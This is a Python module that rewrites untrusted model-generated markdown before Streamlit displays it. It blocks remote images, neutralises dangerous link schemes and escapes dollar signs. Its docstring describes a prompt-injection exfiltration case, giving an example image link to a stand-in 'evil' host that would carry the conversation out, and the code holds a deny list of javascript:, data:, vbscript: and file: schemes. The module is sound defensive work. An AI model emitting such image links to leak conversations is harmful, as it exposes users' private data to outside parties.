"""Model output is untrusted: rewrite its markdown before Streamlit renders it.

Streamlit's markdown escapes raw HTML (we never pass `unsafe_allow_html`), but it loads
`![](url)` images and keeps any link scheme. A prompt-injected model that writes
`![x](https://evil/?d=<conversation>)` would make the viewer's browser send data away. So:

- remote and data: images become a visible "image blocked: host" link the user may open on purpose;
- `javascript:`, `data:`, `vbscript:` (and `file:`) links become inert text;
- `$` is escaped so prices are not typeset as LaTeX ("$5,000 … $1,000" is common in answers).

Code spans and fenced blocks are left exactly as written.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

_FENCE = re.compile(r"^(?:```|~~~)", re.M)
_CODE = re.compile(
    r"(^(?P<fence>```|~~~)[^\n]*\n.*?(?:^(?P=fence)[^\n]*$|\Z))|(?P<ticks>`+)(?:.+?)(?P=ticks)", re.S | re.M
)
_URL = r"(?P<url>(?:[^()\s>]|\([^()\s]*\))*)"  # one level of parentheses, as in Foo_(bar)
_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]*)\]\(\s*<?" + _URL + r">?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_LINK = re.compile(r"\[(?P<text>[^\]\n]*)\]\(\s*<?" + _URL + r">?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.\-]*:[^>\s]*)>")
_REF_DEF = re.compile(r"^(?P<lead> {0,3}\[[^\]\n]+\]:[ \t]*)<?(?P<url>\S+?)>?(?P<rest>(?:[ \t].*)?)$", re.M)
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:", "file:")


def _scheme_of(url: str) -> str:
    cleaned = _CONTROL.sub("", url).lower()
    return cleaned.split(":", 1)[0] + ":" if ":" in cleaned else ""


def is_dangerous(url: str) -> bool:
    return _scheme_of(url) in DANGEROUS_SCHEMES


def _blocked_image(match: re.Match) -> str:
    url = match.group("url")
    scheme = _scheme_of(url)
    if scheme in DANGEROUS_SCHEMES:
        return f"[image blocked: {scheme.rstrip(':')} URL]"
    host = urlsplit(url).hostname or "relative URL"
    return f"[image blocked: {host}]({url})" if scheme in ("http:", "https:") else f"[image blocked: {host}]"


def _inert_link(match: re.Match) -> str:
    url = match.group("url")
    if is_dangerous(url):
        return f"{match.group('text')} (unsafe link removed)"
    return match.group(0)


def _inert_autolink(match: re.Match) -> str:
    url = match.group("url")
    return "(unsafe link removed)" if is_dangerous(url) else match.group(0)


def _inert_ref(match: re.Match) -> str:
    url = match.group("url")
    return f"{match.group('lead')}#link-removed{match.group('rest')}" if is_dangerous(url) else match.group(0)


def _rewrite_prose(text: str) -> str:
    text = _IMAGE.sub(_blocked_image, text)
    text = text.replace("![", "!\\[")  # reference-style images left over: shown as links, never loaded
    text = _LINK.sub(_inert_link, text)
    text = _AUTOLINK.sub(_inert_autolink, text)
    text = _REF_DEF.sub(_inert_ref, text)
    return re.sub(r"(?<!\\)\$", r"\\$", text)


def safe_markdown(text: str) -> str:
    """`text` rewritten so rendering it loads nothing and runs nothing."""
    out: list[str] = []
    pos = 0
    for match in _CODE.finditer(text):
        out.append(_rewrite_prose(text[pos : match.start()]))
        out.append(match.group(0))
        pos = match.end()
    out.append(_rewrite_prose(text[pos:]))
    return "".join(out)


def split_blocks(text: str) -> list[str]:
    """Split markdown at blank lines outside fenced code, keeping each block renderable alone.

    The live answer view renders finished blocks once and re-renders only the last one, so a
    long answer costs linear, not quadratic, work in the browser."""
    blocks: list[str] = []
    current: list[str] = []
    in_fence: str | None = None
    for line in text.split("\n"):
        stripped = line.lstrip()
        if in_fence:
            if stripped.startswith(in_fence):
                in_fence = None
        elif _FENCE.match(stripped):
            in_fence = stripped[:3]
        if not line.strip() and in_fence is None and current:
            blocks.append("\n".join(current))
            current = []
            continue
        current.append(line)
    if current:
        blocks.append("\n".join(current))
    return blocks


_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>$:])")


def escape_markdown(text: str) -> str:
    """`text` shown literally by a markdown renderer (used for diff spans of model text)."""
    return _MD_SPECIAL.sub(r"\\\1", text)
